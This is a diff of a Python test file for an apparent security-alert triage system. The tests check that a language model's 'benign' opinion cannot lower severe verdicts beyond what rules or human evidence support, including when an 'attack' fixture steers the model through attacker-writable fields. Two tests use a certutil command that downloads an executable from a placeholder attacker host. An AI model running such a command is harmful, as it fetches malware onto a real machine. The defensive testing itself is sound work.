@@ -80,7 +80,7 @@ class TestNeverMilder:
         assert after.label is not VerdictLabel.BENIGN
 
     def test_a_claim_of_harmlessness_without_accepted_evidence_is_dropped_and_told(self, attack) -> None:
-        view = see(make_alert(severity=Severity.HIGH, title="ET MALWARE Emotet CnC"))
+        view = see(make_alert(severity=Severity.MEDIUM, title="ET MALWARE Emotet CnC"))
 
         before, after, dropped = judged(view, opinion(claim("benign", "f1")), attack)
 
@@ -98,6 +98,46 @@ class TestNeverMilder:
         before, after, _ = judged(view, opinion(claim("benign", "e1")), attack)
 
         assert after.score == before.score
+
+    def test_a_model_does_not_tip_the_scales_of_a_severe_alert_that_a_rule_would_close(self, attack) -> None:
+        """The decoder event closes, what corroborates it keeps it open: that is for a person, not for a model."""
+        shared = found("related", alerts="3", severe="1", techniques="3", sources="a,b,c", shared_value="ws-1")
+        view = see(make_alert(severity=Severity.CRITICAL, title="SURICATA TCPv4 invalid checksum"), shared)
+        assert any(each.closes for each in analyst.assess(view, RULES))
+
+        before, after, _ = judged(view, opinion(claim("benign", "f2")), attack)
+
+        assert (before.label, after.label) == (VerdictLabel.NEEDS_REVIEW, VerdictLabel.NEEDS_REVIEW)
+        assert after.score < analyst.BENIGN < before.score
+        assert "only with the word of a model" in after.reason
+
+    def test_a_model_lowers_a_severe_verdict_with_evidence_that_a_rule_accepts(self, attack) -> None:
+        past = found("past_verdict", provenance=Provenance.HUMAN, label="benign", decided_by="analyst", age_days="300")
+        command = ("process.command_line", "certutil -urlcache -f http://evil.example/a.exe a.exe", SENSOR)
+        view = see(make_alert(command, severity=Severity.HIGH, title="ET MALWARE Emotet CnC"), past)
+
+        before, after, _ = judged(view, opinion(claim("benign", "e1")), attack)
+
+        assert after.score == pytest.approx(before.score - 8.0)
+
+    def test_a_low_rating_is_no_reason_for_a_model_to_lean_on(self, attack) -> None:
+        """Every alert that is rated low would be open to whoever writes its command line."""
+        command = ("process.command_line", "certutil -urlcache -f http://evil.example/a.exe a.exe", WRITABLE)
+        view = see(make_alert(command, severity=Severity.LOW))
+        assert any(each.rule == "severity.product" and each.weight < 0 for each in analyst.assess(view, RULES))
+
+        before, after, _ = judged(view, opinion(claim("benign", "f1")), attack)
+
+        assert (after.label, after.score) == (before.label, before.score)
+
+    def test_a_model_lowers_by_no_more_than_the_rule_that_it_leans_on(self, attack) -> None:
+        """Whoever sends a mail can attach a clean file to it, which a rule takes for a reason of one deciban."""
+        view = see(make_alert(("event.verdict", "Clean", SENSOR), severity=Severity.MEDIUM))
+
+        before, after, _ = judged(view, opinion(claim("benign", "f3", "f1")), attack)
+
+        assert after.score == pytest.approx(before.score - 1.0)
+        assert after.label is before.label is VerdictLabel.NEEDS_REVIEW
 
 
 class TestWeighing:
